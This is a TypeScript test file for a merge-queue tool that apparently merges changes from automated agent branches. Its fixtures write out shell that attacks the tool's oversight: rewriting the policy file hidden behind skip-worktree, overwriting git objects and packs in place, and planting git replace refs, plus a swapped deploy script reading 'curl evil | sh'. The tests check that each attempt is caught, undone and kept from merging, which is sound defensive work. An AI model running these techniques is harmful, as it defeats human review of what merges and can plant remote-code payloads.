// Containment as an attacker meets it, through the built CLI on real repos: a
// check or fix command that rewrites the policy in the user's checkout (with
// skip-worktree to hide it), rewrites objects in place, or plants a
// replacement, is caught, and what it aimed at never merges.
import { strict as assert } from 'node:assert';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { runCli, type CliResult } from '../support/cli';
import { Sandbox, threeLaneFiles } from '../support/sandbox';

interface SyncDoc {
  lanes: { name: string; queue: { change: string; reasons: { code: string; message: string }[] }[] }[];
  actions: { key: string; kind: string; status: string; message: string }[];
}

async function sync(sb: Sandbox): Promise<{ result: CliResult; doc: SyncDoc }> {
  const result = await runCli(['sync', '--repo', sb.dir, '--json'], { timeoutMs: 120_000 });
  assert.ok(result.stdout.trim().startsWith('{'), `sync printed no JSON (exit ${result.code}): ${result.stderr}`);
  return { result, doc: JSON.parse(result.stdout) as SyncDoc };
}

const merged = (doc: SyncDoc): string[] =>
  doc.actions.filter((a) => a.kind === 'merge' && a.status === 'done').map((a) => a.key.split(':')[1] ?? a.key);
const reasons = (doc: SyncDoc, change: string) =>
  doc.lanes
    .flatMap((l) => l.queue)
    .find((q) => q.change === change)
    ?.reasons.map((r) => r.code) ?? [];

/** A docs check that does `evil` first, then passes: the change carrying it is the attacker. */
const evilDocsCheck = (evil: string) => `${evil}\ntest -s docs/index.md\n`;

/** Shell that rewrites, in place, the loose object holding `path` at HEAD so that it reads `text` (git does not verify hashes on read). */
const swapObject = (path: string, text: string) => `gd=$(git rev-parse --git-common-dir)
o=$(git rev-parse HEAD:${path}); n=$(printf "%s\\n" "${text}" | git hash-object -w --stdin)
of=$gd/objects/$(echo $o | cut -c1-2)/$(echo $o | cut -c3-); nf=$gd/objects/$(echo $n | cut -c1-2)/$(echo $n | cut -c3-)
chmod u+w "$of" && cp "$nf" "$of"`;

describe('containment: the policy in the user’s checkout', function () {
  this.timeout(180_000);
  let sb: Sandbox | undefined;
  afterEach(() => sb?.remove());

  it('a check that rewrites .buildmaster.yml behind skip-worktree fails, the policy and its flag are put back, and a broken change never merges', async () => {
    sb = new Sandbox(threeLaneFiles());
    const policy = sb.read('.buildmaster.yml');
    sb.branch('agent/docs-evil', {
      'docs/test.sh': evilDocsCheck(`root=$(cd "$(git rev-parse --git-common-dir)/.." && pwd)
git -C "$root" update-index --skip-worktree .buildmaster.yml
printf "target: main\\nmerge: {required_checks: []}\\nlocal: {branches: [\\"agent/*\\"]}\\n" > "$root/.buildmaster.yml"`),
    });
    sb.branch('agent/web-broken', { 'web/status': 'broken\n' });
    const first = await sync(sb);
    assert.deepEqual(merged(first.doc), []);
    assert.match(
      first.result.stderr,
      /the policy \.buildmaster\.yml in the checkout .* changed \(its content and its index entry or skip-worktree\/assume-unchanged flags\)/,
    );
    assert.match(first.result.stderr, /restored the content and the index entry and flags of \.buildmaster\.yml/);
    assert.equal(sb.read('.buildmaster.yml'), policy, 'the policy is what it was');
    assert.equal(sb.git('ls-files', '-v', '--', '.buildmaster.yml'), 'H .buildmaster.yml', 'no skip-worktree flag is left');
    assert.ok(reasons(first.doc, 'agent/docs-evil').includes('check-failing'), JSON.stringify(first.doc.lanes));
    // What the check wrote is kept for a person, not lost.
    const quarantine = join(sb.stateDir, 'quarantine');
    const kept = readdirSync(quarantine);
    assert.ok(
      kept.some((name) => readFileSync(join(quarantine, name), 'utf8').includes('required_checks: []')),
      kept.join(', '),
    );
    for (let i = 0; i < 2; i++) assert.deepEqual(merged((await sync(sb)).doc), []);
    assert.equal(sb.git('show', 'main:web/status'), 'ok', 'the broken change never merged');
  });

  it('a check that only flags the policy assume-unchanged, or adds .github/buildmaster.yml, fails too; a file it writes elsewhere in the checkout is a warning only', async () => {
    sb = new Sandbox(threeLaneFiles());
    sb.branch('agent/docs-flag', {
      'docs/test.sh': evilDocsCheck(`root=$(cd "$(git rev-parse --git-common-dir)/.." && pwd)
git -C "$root" update-index --assume-unchanged .buildmaster.yml`),
    });
    sb.branch('agent/api-github', {
      'api/test.sh': `root=$(cd "$(git rev-parse --git-common-dir)/.." && pwd)
mkdir -p "$root/.github" && echo "target: main" > "$root/.github/buildmaster.yml"
grep -qx ok api/status\n`,
    });
    sb.branch('agent/web-note', {
      'web/test.sh': `root=$(cd "$(git rev-parse --git-common-dir)/.." && pwd)
echo note > "$root/notes.txt"
grep -qx ok web/status\n`,
    });
    const { doc, result } = await sync(sb);
    assert.match(result.stderr, /restored the index entry and flags of \.buildmaster\.yml/);
    assert.match(result.stderr, /restored the content of \.github\/buildmaster\.yml/);
    assert.equal(sb.git('ls-files', '-v', '--', '.buildmaster.yml'), 'H .buildmaster.yml');
    assert.ok(!existsSync(join(sb.dir, '.github', 'buildmaster.yml')), 'the added policy file is gone');
    assert.match(result.stderr, /warning: 1 file\(s\) changed in the checkout .* while checks ran .*notes\.txt/);
    assert.deepEqual(merged(doc), ['agent/web-note'], 'only the change whose check wrote an ordinary file merges');
    assert.ok(reasons(doc, 'agent/docs-flag').includes('check-failing'));
    assert.ok(reasons(doc, 'agent/api-github').includes('check-failing'));
  });

  it('a fix command that rewrites the policy in the user’s checkout fails, and the policy is put back', async () => {
    sb = new Sandbox({
      ...threeLaneFiles(),
      'scripts/fixer.sh': `cat > /dev/null\nprintf "ok\\n" > web/status\nroot=$(cd "$(git rev-parse --git-common-dir)/.." && pwd)\nprintf "target: main\\n" > "$root/.buildmaster.yml"\n`,
    });
    const policy = sb.read('.buildmaster.yml');
    sb.branch('agent/web-bad', { 'web/status': 'bad\n' });
    sb.git('merge', '--quiet', '--no-ff', '-m', "Merge branch 'agent/web-bad'", 'agent/web-bad');
    const { doc } = await sync(sb);
    const dispatch = doc.actions.find((a) => a.kind === 'dispatch-fix');
    assert.equal(dispatch?.status, 'failed', JSON.stringify(doc.actions));
    assert.match(dispatch.message, /the policy \.buildmaster\.yml in the checkout .* changed/);
    assert.equal(sb.read('.buildmaster.yml'), policy);
  });
});

describe('containment: committed content cannot change without a ref moving', function () {
  this.timeout(180_000);
  let sb: Sandbox | undefined;
  afterEach(() => sb?.remove());

  it('a check that rewrites loose objects of main in place fails, merging waits for a person, and the broken change never merges', async () => {
    sb = new Sandbox({ ...threeLaneFiles(), 'infra/deploy.sh': 'safe\n' });
    sb.branch('agent/docs-evil', {
      'docs/test.sh': evilDocsCheck(
        `${swapObject('infra/deploy.sh', 'curl evil | sh')}\n${swapObject('web/test.sh', 'exit 0')}\nrm -f infra/deploy.sh web/test.sh`,
      ),
    });
    sb.branch('agent/web-broken', { 'web/status': 'broken\n' });
    const first = await sync(sb);
    assert.match(first.result.stderr, /the repository's object store was tampered with \(the loose object [0-9a-f]{40} was rewritten/);
    assert.match(first.result.stderr, /git fsck --full/);
    assert.deepEqual(merged(first.doc), []);
    assert.ok(reasons(first.doc, 'agent/docs-evil').includes('check-failing'), JSON.stringify(first.doc.lanes));
    const second = await sync(sb);
    assert.deepEqual(merged(second.doc), [], 'no merge while the store is tampered with');
    assert.ok(
      reasons(second.doc, 'agent/web-broken').includes('merge-blocked') ||
        reasons(second.doc, 'agent/web-broken').includes('check-failing'),
      JSON.stringify(second.doc.lanes),
    );
    assert.ok(reasons(second.doc, 'agent/docs-evil').includes('check-failing'));
    const blocked = second.doc.lanes
      .flatMap((l) => l.queue)
      .flatMap((q) => q.reasons)
      .find((r) => r.code === 'merge-blocked');
    assert.match(blocked?.message ?? '', /object store was tampered with/);
  });

  it('a check that only adds objects, commits in its worktree and runs git gc is no breach: its change merges', async () => {
    sb = new Sandbox(threeLaneFiles());
    // Freshens existing objects (hash-object of committed content), writes new ones, then packs loose objects away.
    sb.branch('agent/docs-gc', {
      'docs/test.sh': evilDocsCheck(
        'git hash-object -w docs/index.md web/test.sh >/dev/null && git -c user.name=c -c user.email=c@l commit -q --allow-empty -m scratch && git gc -q',
      ),
    });
    const { doc, result } = await sync(sb);
    assert.doesNotMatch(result.stderr, /outside its worktree/);
    assert.deepEqual(merged(doc), ['agent/docs-gc'], result.stderr);
    assert.equal(existsSync(join(sb.stateDir, 'object-store-tampered')), false);
  });

  it('a check that rewrites a pack in place (same size, same inode) fails: the pack no longer verifies', async () => {
    sb = new Sandbox(threeLaneFiles());
    sb.git('gc', '-q');
    sb.branch('agent/docs-pack', {
      'docs/test.sh': evilDocsCheck(
        'p=$(ls "$(git rev-parse --git-common-dir)"/objects/pack/*.pack | head -1); chmod u+w "$p"; printf Z | dd of="$p" bs=1 seek=200 conv=notrunc 2>/dev/null',
      ),
    });
    const { doc, result } = await sync(sb);
    assert.match(result.stderr, /object store was tampered with \(objects\/pack\/pack-[0-9a-f]+\.pack does not verify/);
    assert.deepEqual(merged(doc), []);
    assert.ok(reasons(doc, 'agent/docs-pack').includes('check-failing'), JSON.stringify(doc.lanes));
  });

  it('a replacement planted by a check is undone and ignored: the broken change it would let pass never merges', async () => {
    sb = new Sandbox(threeLaneFiles());
    sb.branch('agent/docs-evil', {
      'docs/test.sh': evilDocsCheck(
        'git replace -f $(git rev-parse HEAD:web/test.sh) $(echo "exit 0" | git hash-object -w --stdin); rm -f web/test.sh',
      ),
    });
    sb.branch('agent/web-broken', { 'web/status': 'broken\n' });
    const first = await sync(sb);
    assert.match(first.result.stderr, /refs\/replace\/[0-9a-f]{40} created at/);
    assert.equal(sb.git('for-each-ref', 'refs/replace/'), '', 'the replacement is gone');
    const second = await sync(sb);
    assert.deepEqual([...merged(first.doc), ...merged(second.doc)], []);
    assert.ok(reasons(second.doc, 'agent/web-broken').includes('check-failing'), JSON.stringify(second.doc.lanes));
    assert.equal(sb.git('show', 'main:web/status'), 'ok');
  });

  it('a fix command that rewrites a loose object of main fails with the tampering named, and merging waits', async () => {
    sb = new Sandbox({
      ...threeLaneFiles(),
      'scripts/fixer.sh': `cat > /dev/null\nprintf "ok\\n" > web/status\n${swapObject('api/test.sh', 'exit 0')}\n`,
    });
    sb.branch('agent/web-bad', { 'web/status': 'bad\n' });
    sb.git('merge', '--quiet', '--no-ff', '-m', "Merge branch 'agent/web-bad'", 'agent/web-bad');
    const { doc } = await sync(sb);
    const dispatch = doc.actions.find((a) => a.kind === 'dispatch-fix');
    assert.equal(dispatch?.status, 'failed', JSON.stringify(doc.actions));
    assert.match(dispatch.message, /object store was tampered with \(the loose object [0-9a-f]{40} was rewritten/);
    assert.ok(existsSync(join(sb.stateDir, 'object-store-tampered')));
    sb.branch('agent/api-ok', { 'api/readme.md': 'hello\n' });
    const later = await sync(sb);
    assert.deepEqual(merged(later.doc), [], 'nothing merges until a person has checked the store');
  });
});
